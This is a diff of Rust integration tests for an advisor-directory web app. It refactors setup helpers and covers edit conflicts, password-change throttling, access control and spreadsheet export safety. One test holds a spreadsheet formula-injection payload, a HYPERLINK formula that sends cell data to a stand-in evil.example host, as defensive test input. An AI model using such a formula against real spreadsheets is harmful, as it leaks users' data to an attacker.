@@ -4,19 +4,11 @@
 
 use crate::helpers::{TestApp, backends};
 
-async fn bank(backend: crate::helpers::Backend) -> TestApp {
-    let app = TestApp::spawn_with_accounts(backend).await;
-    renkei::demo::create_demo_advisors(&app.db)
-        .await
-        .expect("demo advisors");
-    app.restart().await
-}
-
 #[tokio::test]
 async fn reliability_two_people_editing_different_fields_of_a_profile_at_once_both_keep_their_change()
  {
     for backend in backends() {
-        let app = bank(backend).await;
+        let app = TestApp::spawn_bank(backend).await;
         let admin = app.signed_in("nara-admin@renkei.example").await;
         let advisor = app.signed_in("advisor1@renkei.example").await;
         let url = app.url("/api/advisors/1");
@@ -48,7 +40,7 @@ async fn reliability_two_people_editing_different_fields_of_a_profile_at_once_bo
 #[tokio::test]
 async fn reliability_an_edit_made_from_an_older_copy_is_refused_with_409_and_changes_nothing() {
     for backend in backends() {
-        let app = bank(backend).await;
+        let app = TestApp::spawn_bank(backend).await;
         let admin = app.signed_in("nara-admin@renkei.example").await;
         let url = app.url("/api/advisors/1");
         let read = admin.get(&url).send().await.expect("get");
@@ -93,14 +85,9 @@ async fn reliability_an_edit_made_from_an_older_copy_is_refused_with_409_and_cha
 
         // The account page's deactivate button carries the version it showed.
         let id = app.account_id("miyake@renkei.example").await;
-        let account: serde_json::Value = admin
-            .get(app.url(&format!("/api/accounts/{id}")))
-            .send()
-            .await
-            .expect("account")
-            .json()
-            .await
-            .expect("json");
+        let (_, account) = app
+            .get_json_as(&admin, &format!("/api/accounts/{id}"))
+            .await;
         let changed = admin
             .patch(app.url(&format!("/api/accounts/{id}")))
             .json(&serde_json::json!({ "active": false, "version": account["version"] }))
@@ -120,7 +107,7 @@ async fn reliability_an_edit_made_from_an_older_copy_is_refused_with_409_and_cha
 
 #[tokio::test]
 async fn reliability_a_profile_form_saved_from_an_older_page_is_refused_and_keeps_what_was_typed() {
-    let app = bank(crate::helpers::Backend::Sqlite).await;
+    let app = TestApp::spawn_bank(crate::helpers::Backend::Sqlite).await;
     let admin = app.signed_in("nara-admin@renkei.example").await;
     let (_, page) = {
         let response = admin
@@ -248,21 +235,16 @@ async fn reliability_guessing_the_current_password_of_a_password_change_is_throt
     );
     assert_eq!(statuses[5..], [429, 429], "{statuses:?}");
     let admin = app.signed_in("nara-admin@renkei.example").await;
-    let audit: serde_json::Value = admin
-        .get(app.url("/api/audit?action=password_change_failed"))
-        .send()
-        .await
-        .expect("audit")
-        .json()
-        .await
-        .expect("json");
+    let (_, audit) = app
+        .get_json_as(&admin, "/api/audit?action=password_change_failed")
+        .await;
     // Five wrong passwords, then one entry for the refusals of that minute.
     assert_eq!(audit["total"], 6, "{audit}");
 }
 
 #[tokio::test]
 async fn a_bio_that_looks_like_a_formula_reaches_excel_as_text_and_imports_back_unchanged() {
-    let app = bank(crate::helpers::Backend::Sqlite).await;
+    let app = TestApp::spawn_bank(crate::helpers::Backend::Sqlite).await;
     let admin = app.signed_in("nara-admin@renkei.example").await;
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
     let edited = admin
@@ -321,7 +303,7 @@ async fn a_bio_that_looks_like_a_formula_reaches_excel_as_text_and_imports_back_
 
 #[tokio::test]
 async fn available_months_cannot_be_filtered_or_counted_by_anyone_who_may_not_read_them() {
-    let app = bank(crate::helpers::Backend::Sqlite).await;
+    let app = TestApp::spawn_bank(crate::helpers::Backend::Sqlite).await;
     let (status, body) = app.get_json("/api/advisors?available=2027-01").await;
     assert_eq!(status, 403, "signed out: {body}");
     assert_eq!(body["error"]["field"], "available");
@@ -336,28 +318,18 @@ async fn available_months_cannot_be_filtered_or_counted_by_anyone_who_may_not_re
     );
 
     let kochi = app.signed_in("kochi-admin@renkei.example").await;
-    let other: serde_json::Value = kochi
-        .get(app.url("/api/advisors?prefecture=奈良県&available=2027-01"))
-        .send()
-        .await
-        .expect("list")
-        .json()
-        .await
-        .expect("json");
+    let (_, other) = app
+        .get_json_as(&kochi, "/api/advisors?prefecture=奈良県&available=2027-01")
+        .await;
     assert_eq!(
         other["error"]["field"], "available",
         "another bank's months: {other}"
     );
 
     let miyake = app.signed_in("miyake@renkei.example").await;
-    let own: serde_json::Value = miyake
-        .get(app.url("/api/advisors?available=2027-01"))
-        .send()
-        .await
-        .expect("list")
-        .json()
-        .await
-        .expect("json");
+    let (_, own) = app
+        .get_json_as(&miyake, "/api/advisors?available=2027-01")
+        .await;
     assert!(own["total"].as_u64().is_some(), "{own}");
     assert!(
         own["facets"]["available"]
